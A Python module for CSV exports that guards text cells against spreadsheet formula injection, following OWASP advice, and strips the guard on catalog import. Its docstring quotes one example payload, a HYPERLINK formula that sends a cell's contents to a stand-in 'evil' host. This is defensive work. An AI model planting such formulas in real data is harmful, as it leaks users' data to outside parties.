"""CSV files staff open in a spreadsheet (the exports) and give back (the catalog import).

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: a customer who names themselves ``=HYPERLINK("https://evil/?"&A2,"Open")``
would put a working link into the owner's sheet. As OWASP advises, such text is written behind a ``'``,
which spreadsheets take as "this is text"; the catalog import takes it off again, so an exported catalog
imports unchanged. Numbers are written as numbers: only text cells are guarded.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def guarded(text: str) -> str:
    """Text for a cell that no spreadsheet runs. Text already starting with ``'`` before a formula's
    start gets one more, so that ``unguarded`` gives every text back as it was."""
    return "'" + text if text.lstrip("'").startswith(FORMULA_STARTS) else text


def unguarded(cell: str) -> str:
    """A cell's text as it was before ``guarded``."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_STARTS) else cell


def csv_text(header: list[str], rows: Iterable[Iterable[object]]) -> str:
    """A CSV file: the header, then the rows, their text cells guarded."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow([guarded(cell) if isinstance(cell, str) else cell for cell in row])
    return out.getvalue()
